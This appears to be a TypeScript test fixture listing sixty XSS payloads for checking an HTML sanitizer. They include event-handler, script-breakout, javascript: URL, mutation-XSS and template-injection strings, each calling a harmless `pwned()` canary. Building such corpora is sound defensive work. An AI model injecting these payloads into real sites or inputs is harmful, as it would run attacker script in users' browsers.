// Sixty ways in which text has become code elsewhere. Each would call `pwned`.

const HANDLERS = [
  '<img src=x onerror=pwned()>',
  '<img src=x oNeRrOr=pwned()>',
  '<img/src="x"/onerror="pwned()">',
  '<image src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg/onload=pwned()//',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned()/>#x">',
  '<svg><foreignObject><body onload=pwned()></foreignObject></svg>',
  '<body onload=pwned()>',
  '<body onpageshow=pwned()>',
  '<video src=x onerror=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()>',
  '<textarea autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<marquee onstart=pwned()>',
  '<div onpointerover=pwned()>x</div>',
  '<div style="animation-name:x" onanimationstart=pwned()>',
  '<iframe onload=pwned()>',
];

const SCRIPTS = [
  '<script>pwned()</script>',
  '<SCRIPT>pwned()</SCRIPT>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script src=data:text/javascript,pwned()></script>',
  '<script type=module>pwned()</script>',
  '</script><script>pwned()</script>',
  '--><script>pwned()</script>',
  ']]><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="data:text/html,<script>pwned()</script>"></object>',
  '<embed src="data:text/html,<script>pwned()</script>">',
];

const ADDRESSES = [
  '<a href="javascript:pwned()">x</a>',
  '<a href="jav&#x09;ascript:pwned()">x</a>',
  '<a href=" &#14; javascript:pwned()">x</a>',
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<button formaction="javascript:pwned()">x</button>',
  '<base href="javascript:pwned()//">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<link rel=stylesheet href="javascript:pwned()">',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:pwned()">x</maction></math>',
];

const OTHERS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>',
  '"><img src=x onerror=pwned()>',
  "'-pwned()-'",
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '#{pwned()}',
  '`${pwned()}`',
];

export const PAYLOADS: readonly string[] = [...HANDLERS, ...SCRIPTS, ...ADDRESSES, ...OTHERS].slice(0, 60);
